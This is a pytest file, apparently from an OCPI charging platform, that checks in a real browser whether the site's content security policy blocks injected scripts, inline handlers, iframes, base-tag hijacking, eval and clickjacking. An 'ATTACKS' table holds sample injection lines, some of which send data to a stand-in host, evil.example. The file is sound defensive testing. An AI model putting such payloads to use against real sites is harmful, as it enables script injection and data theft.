"""The content policy in a real browser: our pages need nothing that it forbids, and it forbids what it should.

The admin's lists and object pages are opened in test_admin_pages.py, where any complaint of the browser fails the test;
a violation of the policy is one.
"""

from typing import Any

import pytest

from ocpi.partners.models import Partner
from tests.platforms import wait

from .conftest import CHROMIUM, Operator

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"there is no browser at {CHROMIUM}")

WATCH = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective));
"""


@pytest.mark.requirement("SEED-03")
@pytest.mark.parametrize("path", ["/docs", "/ocpi/emsp/2.2.1/docs"])
def test_the_api_docs_draw_and_try_out_under_the_policy(operator: Operator, partner: Partner, path: str) -> None:
    page = operator.open(path)
    page.get_by_text("Locations that you may see").first.wait_for()
    page.locator("button.authorize").first.click()
    page.fill("input[aria-label], .auth-container input", "Token dG9rZW4tb2YtY3Bv")
    page.locator(".auth-btn-wrapper button.authorize").click()
    page.locator(".btn-done").click()
    page.locator("#operations-locations-location_list .opblock-summary-control").click()
    page.locator("#operations-locations-location_list .try-out__btn").click()
    page.locator("#operations-locations-location_list .execute").click()
    page.locator(".live-responses-table .response-col_status", has_text="200").wait_for()


ATTACKS = {
    "script-src-elem": "const s = document.createElement('script'); s.textContent = '1'; document.body.append(s)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<i onclick=\"1\">x</i>')",
    "connect-src": "fetch('https://evil.example/steal').catch(() => 0)",
    "img-src": "new Image().src = 'https://evil.example/steal.png'",
    "frame-src": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/admin/\"></iframe>')",
    "base-uri": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "object-src": "const o = document.createElement('object'); o.data = '/x'; document.body.append(o)",
}


@pytest.mark.parametrize("path", ["/admin/", "/docs"])
def test_what_an_injected_script_would_do_is_forbidden(
    browser: Any, live_server: Any, admin_user: Any, path: str
) -> None:
    context = browser.new_context()
    try:
        someone = Operator(context.new_page(), live_server.url)
        someone.log_in()
        page = someone.open(path)
        page.evaluate(f"() => {{ {WATCH} }}")
        for directive, what in ATTACKS.items():
            page.evaluate(f"() => {{ {what} }}")
            page.wait_for_function("wanted => window.violations.includes(wanted)", arg=directive, timeout=30_000)

        def all_told() -> bool:
            page.wait_for_timeout(50)  # the console comes behind what the page itself sees
            return sum("Content Security Policy" in problem for problem in someone.problems) >= len(ATTACKS)

        wait(all_told, 30)  # so a violation on any other page fails the test that opens it
    finally:
        context.close()


def test_swagger_may_not_evaluate_text_as_script(browser: Any, live_server: Any) -> None:
    """The admin may: Alpine does."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{live_server.url}/docs")
        blocked = page.evaluate("() => new Promise(done => { const s = document.createElement('script');"
                                "s.src = '/static/unfold/js/alpine/alpine.js'; s.onload = () => {"
                                "document.addEventListener('securitypolicyviolation', e => done(e.blockedURI));"
                                "document.body.insertAdjacentHTML('beforeend', '<b x-data=\"{a: 1}\"></b>'); };"
                                "document.head.append(s); })")  # fmt: skip
        assert blocked == "eval"
    finally:
        context.close()


def test_our_pages_cannot_be_framed(browser: Any, live_server: Any, admin_user: Any) -> None:
    """Clickjacking: an operator who is logged in, on a page of somebody else."""
    context = browser.new_context()
    try:
        page = context.new_page()
        Operator(page, live_server.url).log_in()
        page.route("**/evil", lambda route: route.fulfill(
            content_type="text/html", body=f'<iframe src="{live_server.url}/admin/"></iframe>'))  # fmt: skip
        page.goto(live_server.url.replace("localhost", "127.0.0.1") + "/evil")
        page.wait_for_load_state("networkidle")
        assert page.frames[1].url.startswith("chrome-error://")
    finally:
        context.close()
